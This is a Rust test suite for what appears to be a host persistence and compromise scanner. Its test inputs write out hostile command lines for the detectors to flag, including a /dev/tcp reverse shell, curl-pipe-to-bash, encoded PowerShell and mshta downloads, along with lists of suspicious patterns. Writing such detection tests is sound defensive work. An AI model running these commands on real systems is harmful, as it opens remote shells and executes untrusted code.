use sentrix::config::{
    macos_suspicious_dirs, path_is_suspicious, path_under, strings, suspicious_dirs,
    SUSPICIOUS_AUTORUN_PATTERNS,
};
use sentrix::config_loader::{choose_list, recent_file_days, PlatformConfig, UserConfig};
use sentrix::platform::linux::{
    cron_file_notes, is_pid_entry, persistence_scan_dirs, process_findings, rc_note, shell_rc_files,
};
use sentrix::platform::macos::{
    crontab_notes, is_system_extension, launchctl_notes, network_extension_is_suspicious,
    network_extension_note, plist_notes, ps_notes, rc_note as macos_rc_note, system_extension_message,
    MacosPatterns,
};
use sentrix::platform::patterns::matches_any_pattern;
use sentrix::platform::windows::{
    autorun_notes, process_notes, ps_task_actions, schtasks_actions, script_block_notes,
    service_notes, task_notes, tasklist_hits, tasklist_note, tasklist_notes, wmi_notes, WindowsPatterns,
};
use sentrix::report::{Note, Report, Severity};
use sentrix::scanner::recent_files::{begin, depth_allowed, record, MAX_SCAN_DEPTH};

fn pairs(ns: &[Note]) -> Vec<(Severity, String)> {
    ns.iter().map(|n| (n.severity, n.message.clone())).collect()
}

fn owned(v: &[&str]) -> Vec<String> {
    v.iter().map(|s| s.to_string()).collect()
}

// ===== Paths =====

#[test]
fn path_under_compares_whole_components() {
    assert!(path_under("/tmp/evil", "/tmp"));
    assert!(path_under("/tmp", "/tmp"));
    assert!(path_under("/tmp//a/./b/", "/tmp/"));
    assert!(!path_under("/tmpx/evil", "/tmp"));
    assert!(!path_under("tmp/evil", "/tmp"));
    assert!(!path_under("/var", "/var/tmp"));
    assert!(path_under("/var/tmp/../x", "/var/tmp"));
}

#[test]
fn path_is_suspicious_checks_every_dir() {
    let dirs = suspicious_dirs();
    assert_eq!(dirs, owned(&["/tmp", "/dev/shm", "/var/tmp"]));
    assert!(path_is_suspicious("/dev/shm/x", &dirs));
    assert!(path_is_suspicious("/var/tmp/x", &dirs));
    assert!(!path_is_suspicious("/usr/bin/ls", &dirs));
    assert!(!path_is_suspicious("/tmp", &[]));
    assert_eq!(
        macos_suspicious_dirs(),
        owned(&["/tmp", "/var/tmp", "/private/tmp", "/Users/Shared"])
    );
}

// ===== Configuration =====

fn linux_config(rc: Option<Vec<String>>, dirs: Option<Vec<String>>) -> UserConfig {
    let mut p = PlatformConfig::default();
    p.shell_rc_files = rc;
    p.persistence_scan_dirs = dirs;
    let mut c = UserConfig::default();
    c.linux = Some(p);
    c
}

#[test]
fn overrides_replace_defaults_and_absence_keeps_them() {
    assert_eq!(shell_rc_files(None), owned(&[".bashrc", ".profile"]));
    assert_eq!(persistence_scan_dirs(None), owned(&["/etc", "/usr/local/bin"]));
    let c = linux_config(Some(owned(&[".zshrc"])), None);
    assert_eq!(shell_rc_files(Some(&c)), owned(&[".zshrc"]));
    assert_eq!(persistence_scan_dirs(Some(&c)), owned(&["/etc", "/usr/local/bin"]));
    let empty = linux_config(None, Some(Vec::new()));
    assert!(persistence_scan_dirs(Some(&empty)).is_empty());
    assert_eq!(choose_list(&None, owned(&["d"])), owned(&["d"]));
    assert_eq!(choose_list(&Some(owned(&["o"])), owned(&["d"])), owned(&["o"]));
}

#[test]
fn recent_file_days_prefers_the_configured_value() {
    assert_eq!(recent_file_days(None, 3), 3);
    let mut c = UserConfig::default();
    assert_eq!(recent_file_days(Some(&c), 3), 3);
    c.recent_file_days = Some(7);
    assert_eq!(recent_file_days(Some(&c), 3), 7);
}

#[test]
fn windows_and_macos_patterns_follow_the_config() {
    let p = WindowsPatterns::from_config(None);
    assert_eq!(p.autorun, strings(&SUSPICIOUS_AUTORUN_PATTERNS));
    let mut wp = PlatformConfig::default();
    wp.suspicious_autorun_patterns = Some(owned(&["custom-pattern"]));
    let mut c = UserConfig::default();
    c.windows = Some(wp);
    let p = WindowsPatterns::from_config(Some(&c));
    assert_eq!(p.autorun, owned(&["custom-pattern"]));
    assert_eq!(p.task.len(), 7);
    let m = MacosPatterns::from_config(Some(&c));
    assert_eq!(m.plist, owned(&["curl", "wget", "/tmp/", "base64"]));
    assert_eq!(m.shell_rc_files, owned(&[".zshrc", ".bash_profile", ".zprofile"]));
}

// ===== Pattern matching =====

#[test]
fn patterns_match_ignoring_case() {
    let pats = owned(&["Powershell -ENC"]);
    assert!(matches_any_pattern("cmd /c POWERSHELL -enc abc", &pats));
    assert!(!matches_any_pattern("powershell -command", &pats));
    assert!(!matches_any_pattern("anything", &[]));
}

// ===== Linux =====

#[test]
fn pid_entries_are_all_digits() {
    assert!(is_pid_entry("1234"));
    assert!(!is_pid_entry("12a4"));
    assert!(!is_pid_entry("self"));
}

#[test]
fn process_findings_flag_location_and_deleted_binaries() {
    let dirs = owned(&["/tmp"]);
    assert_eq!(
        process_findings("42", "/tmp/x (deleted)", &dirs),
        owned(&[
            "PID 42 running from suspicious location: /tmp/x (deleted)",
            "PID 42 is executing a deleted binary: /tmp/x (deleted) \u{2014} common dropper/rootkit trick",
        ])
    );
    assert!(process_findings("42", "/usr/bin/ls", &dirs).is_empty());
    assert!(process_findings("42", "", &dirs).is_empty());
}

#[test]
fn cron_lines_skip_comments_and_blanks() {
    let notes = cron_file_notes("# comment\n\n  0 * * * * root /tmp/x  \r\n", "/etc/crontab");
    assert_eq!(
        pairs(&notes),
        vec![(Severity::Info, "cron (/etc/crontab): 0 * * * * root /tmp/x".to_string())]
    );
}

fn rc(content: &str) -> Option<(Severity, String)> {
    rc_note(content, "/root/.bashrc").map(|n| (n.severity, n.message))
}

#[test]
fn shell_rc_findings() {
    let dl = Some((Severity::Warning, "Suspicious download-and-execute pattern in /root/.bashrc".to_string()));
    let rev = Some((Severity::Critical, "Reverse-shell pattern (/dev/tcp/) detected in /root/.bashrc".to_string()));
    assert_eq!(rc("curl http://x | bash"), dl);
    assert_eq!(rc("WGET http://x | SH"), dl);
    assert_eq!(rc("echo aGk= | base64 -d"), dl);
    assert_eq!(rc("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"), rev);
    // The reverse shell wins when both are present.
    assert_eq!(rc("curl x | sh\nbash -i >& /DEV/TCP/1.2.3.4/1"), rev);
    assert_eq!(rc("curl http://example.com -o file"), None);
    assert_eq!(rc("export PATH=$HOME/bin:$PATH"), None);
}

// ===== macOS =====

#[test]
fn ps_lines_after_the_header_are_checked() {
    let text = "  PID ARGS\n   12 /tmp/evil -x\n   13 /usr/bin/ok\n";
    let notes = ps_notes(text, &owned(&["/tmp"]));
    assert_eq!(
        pairs(&notes),
        vec![(Severity::Warning, "PID 12 running from suspicious location: /tmp/evil".to_string())]
    );
    assert!(ps_notes("/tmp/header-only", &owned(&["/tmp"])).is_empty());
}

#[test]
fn launchctl_labels_are_matched() {
    let text = "PID\tStatus\tLabel\n123\t0\tcom.evil.curl\n-\t0\tcom.apple.x\n";
    let notes = launchctl_notes(text, &owned(&["curl"]));
    assert_eq!(
        pairs(&notes),
        vec![(Severity::Warning, "Suspicious launchctl label: com.evil.curl (PID: 123)".to_string())]
    );
}

#[test]
fn crontab_lines_are_listed_and_flagged() {
    let notes = crontab_notes("# c\n*/5 * * * * curl http://x | sh\n", "/Users/me", &owned(&["curl"]));
    assert_eq!(
        pairs(&notes),
        vec![
            (Severity::Info, "crontab (/Users/me): */5 * * * * curl http://x | sh".to_string()),
            (Severity::Warning, "Suspicious crontab entry: */5 * * * * curl http://x | sh".to_string()),
        ]
    );
}

#[test]
fn network_extension_names() {
    assert!(network_extension_is_suspicious("Example.VPN.Tunnel"));
    assert!(network_extension_is_suspicious("dnsmasq"));
    assert!(network_extension_is_suspicious("com.example.thing"));
    assert!(!network_extension_is_suspicious("Zoom"));
}

#[test]
fn macos_shell_rc_findings_are_one_warning() {
    let w = Some((
        Severity::Warning,
        "Suspicious download-and-execute / reverse-shell pattern in /Users/me/.zshrc".to_string(),
    ));
    let rc = |c: &str| macos_rc_note(c, "/Users/me/.zshrc").map(|n| (n.severity, n.message));
    assert_eq!(rc("bash -i >& /dev/tcp/1.2.3.4/1"), w);
    assert_eq!(rc("curl x | sh"), w);
    assert_eq!(rc("echo x | base64 -d"), w);
    assert_eq!(rc("alias ll='ls -l'"), None);
}

#[test]
fn plists_are_listed_and_flagged() {
    let pats = owned(&["curl"]);
    assert_eq!(
        pairs(&plist_notes("/Library/LaunchAgents/a.plist", "<string>CURL -s x</string>", &pats)),
        vec![
            (Severity::Info, "LaunchAgent/Daemon: /Library/LaunchAgents/a.plist".to_string()),
            (Severity::Warning, "Suspicious plist (download/exec pattern): /Library/LaunchAgents/a.plist".to_string()),
        ]
    );
    assert_eq!(plist_notes("/p.plist", "<dict/>", &pats).len(), 1);
}

#[test]
fn network_extension_entries() {
    let n = network_extension_note("MyVPN", "/Library/SystemExtensions/MyVPN");
    assert_eq!(n.severity, Severity::Warning);
    assert_eq!(n.message, "Suspicious network extension: MyVPN (/Library/SystemExtensions/MyVPN)");
    let n = network_extension_note("Zoom", "/Library/SystemExtensions/Zoom");
    assert_eq!(n.severity, Severity::Info);
    assert_eq!(n.message, "Network extension: /Library/SystemExtensions/Zoom");
    assert!(is_system_extension("x.systemextension"));
    assert!(is_system_extension(".systemextension"));
    assert!(!is_system_extension("x.systemextension.bak"));
    assert!(!is_system_extension("systemextension"));
    assert_eq!(
        system_extension_message("/L/a.systemextension"),
        "System extension (possible network interception): /L/a.systemextension"
    );
}

// ===== Windows =====

#[test]
fn schtasks_list_output_pairs_tasks_and_actions() {
    let text = "TaskName:      \\A\r\nTask To Run:   powershell -enc X\r\n\r\nTaskName: \\B\nTask To Run: notepad.exe\n";
    let actions = schtasks_actions(text);
    assert_eq!(actions.len(), 2);
    assert_eq!(actions[0].task, "\\A");
    assert_eq!(actions[0].action, "powershell -enc X");
    assert_eq!(actions[1].task, "\\B");
    let notes = task_notes(&actions, &owned(&["POWERSHELL"]));
    assert_eq!(
        pairs(&notes),
        vec![
            (Severity::Warning, "Suspicious scheduled task action: \\A -> powershell -enc X".to_string()),
            (Severity::Info, "Scheduled task: \\B -> notepad.exe".to_string()),
        ]
    );
}

#[test]
fn powershell_task_lines_split_at_the_first_bar() {
    let text = "\\Tasks\\Updater|C:\\Users\\Public\\u.exe\n   \nno separator here\n\\T2|a|b\n";
    let actions = ps_task_actions(text);
    assert_eq!(actions.len(), 2);
    assert_eq!(actions[0].task, "\\Tasks\\Updater");
    assert_eq!(actions[0].action, "C:\\Users\\Public\\u.exe");
    assert_eq!(actions[1].task, "\\T2");
    assert_eq!(actions[1].action, "a|b");
}

#[test]
fn autorun_values_are_listed_and_flagged() {
    let pats = owned(&["mshta"]);
    let notes = autorun_notes("HKCU", "Software\\Run", "evil", "MSHTA http://x", &pats);
    assert_eq!(
        pairs(&notes),
        vec![
            (Severity::Info, "HKCU\\Software\\Run: evil = MSHTA http://x".to_string()),
            (Severity::Warning, "Suspicious autorun entry in HKCU\\Software\\Run: evil = MSHTA http://x".to_string()),
        ]
    );
    assert_eq!(autorun_notes("HKLM", "K", "ok", "notepad", &pats).len(), 1);
}

#[test]
fn wmi_consumers_skip_the_header() {
    let text = "CommandLineTemplate\r\npowershell -enc AAA\r\n\r\ncmd.exe /c echo\r\n";
    let notes = wmi_notes(text, &owned(&["powershell -enc"]));
    assert_eq!(
        pairs(&notes),
        vec![
            (Severity::Warning, "Suspicious WMI event consumer command: powershell -enc AAA".to_string()),
            (Severity::Info, "WMI event consumer: cmd.exe /c echo".to_string()),
        ]
    );
    assert_eq!(
        pairs(&wmi_notes("Node,CommandLineTemplate\n", &owned(&["x"]))),
        vec![(Severity::Info, "(i) No WMI event consumers found.".to_string())]
    );
}

#[test]
fn script_blocks_flag_five_then_count_the_rest() {
    let text = "iex one\niex two\n\niex three\nclean\niex four\niex five\niex six\niex seven\n";
    let notes = script_block_notes(text, &owned(&["IEX"]));
    assert_eq!(notes.len(), 6);
    assert_eq!(notes[0].message, "Suspicious PowerShell script block: iex one");
    assert_eq!(notes[4].message, "Suspicious PowerShell script block: iex five");
    assert_eq!(
        (notes[5].severity, notes[5].message.as_str()),
        (Severity::Warning, "... and 2 more suspicious PowerShell script blocks")
    );
    let long = format!("iex {}", "a".repeat(300));
    let cut = script_block_notes(&long, &owned(&["iex"]));
    assert_eq!(cut.len(), 1);
    assert_eq!(cut[0].message, format!("Suspicious PowerShell script block: {}", &long[..200]));
    assert_eq!(
        pairs(&script_block_notes("clean\n", &owned(&["iex"]))),
        vec![(
            Severity::Info,
            "(i) No suspicious PowerShell script blocks detected in recent events.".to_string()
        )]
    );
}

#[test]
fn services_are_read_by_column_name() {
    let text = "\r\nNode,Name,PathName,StartMode\r\nHOST,evil,\"C:\\Users\\Public\\e.exe\",Auto\r\nHOST,good, C:\\Windows\\svc.exe ,Auto\r\nHOST,nopath,,Manual\r\n";
    let notes = service_notes(text, &owned(&["\\users\\public"]));
    assert_eq!(
        pairs(&notes),
        vec![
            (Severity::Warning, "Suspicious service path: evil -> C:\\Users\\Public\\e.exe".to_string()),
            (Severity::Info, "Service: good -> C:\\Windows\\svc.exe".to_string()),
        ]
    );
    assert_eq!(
        pairs(&service_notes("Name,StartMode\nx,Auto\n", &owned(&["a"]))),
        vec![(Severity::Info, "(i) No services returned path information.".to_string())]
    );
}

#[test]
fn processes_are_flagged_by_suspicious_dir() {
    let text = "Node,ExecutablePath,Name,ProcessId\nHOST,c:\\users\\public\\evil.exe,evil.exe,4242\nHOST,C:\\Windows\\notepad.exe,notepad.exe,10\nHOST,,idle,0\n";
    let notes = process_notes(text, &owned(&["C:\\Users\\Public"]));
    assert_eq!(
        pairs(&notes),
        vec![(
            Severity::Warning,
            "PID 4242 (evil.exe) running from suspicious location: c:\\users\\public\\evil.exe".to_string()
        )]
    );
    assert_eq!(
        pairs(&process_notes(text, &owned(&["D:\\Nowhere"]))),
        vec![(Severity::Info, "(i) No processes running from suspicious locations.".to_string())]
    );
}

#[test]
fn tasklist_lines_mentioning_a_suspicious_dir() {
    let text = "\"Image Name\",\"PID\"\r\n\"evil.exe\",\"7\",\"C:\\USERS\\PUBLIC\\x\"\r\n\"ok.exe\",\"8\",\"C:\\Windows\"\r\n";
    let hits = tasklist_hits(text, &owned(&["C:\\Windows\\Temp", "C:\\Users\\Public"]));
    assert_eq!(hits.len(), 1);
    assert_eq!(hits[0].name, "evil.exe");
    assert_eq!(hits[0].dir, "C:\\Users\\Public");
    let n = tasklist_note(&hits[0], "");
    assert_eq!(n.message, "Process image name references suspicious dir (C:\\Users\\Public): evil.exe");
    let n = tasklist_note(&hits[0], "C:\\Users\\Public\\evil.exe");
    assert_eq!(n.severity, Severity::Warning);
    assert_eq!(n.message, "Process running from suspicious location: C:\\Users\\Public\\evil.exe (evil.exe)");
}

#[test]
fn tasklist_notes_per_hit_or_nothing_matched() {
    let text = "\"a.exe\",\"C:\\Users\\Public\"\n\"b.exe\",\"C:\\Users\\Public\\b\"\n";
    let hits = tasklist_hits(text, &owned(&["C:\\Users\\Public"]));
    assert_eq!(hits.len(), 2);
    let notes = tasklist_notes(&hits, &owned(&["", "C:\\Users\\Public\\b\\b.exe"]));
    assert_eq!(
        pairs(&notes),
        vec![
            (Severity::Warning, "Process image name references suspicious dir (C:\\Users\\Public): a.exe".to_string()),
            (Severity::Warning, "Process running from suspicious location: C:\\Users\\Public\\b\\b.exe (b.exe)".to_string()),
        ]
    );
    assert_eq!(
        pairs(&tasklist_notes(&Vec::new(), &Vec::new())),
        vec![(Severity::Info, "(i) No processes matched suspicious locations via tasklist.".to_string())]
    );
}

// ===== Recently modified files =====

#[test]
fn recent_files_section_and_lines() {
    assert!(depth_allowed(0));
    assert!(depth_allowed(MAX_SCAN_DEPTH));
    assert!(!depth_allowed(MAX_SCAN_DEPTH + 1));
    let mut r = Report::new_at(0);
    begin(&mut r, 14);
    record(&mut r, "/etc/passwd");
    assert_eq!(r.sections(), &["Recently modified files (last 14 days)".to_string()]);
    assert_eq!(
        r.join(),
        "scan time: 1970-01-01T00:00:00Z (epoch:0)\n\n== Recently modified files (last 14 days) ==\nRecently modified: /etc/passwd"
    );
    assert_eq!(r.findings(), 0);
    assert_eq!(r.timestamp_epoch(), 0);
    assert_eq!(r.severity_counts().info, 1);
}
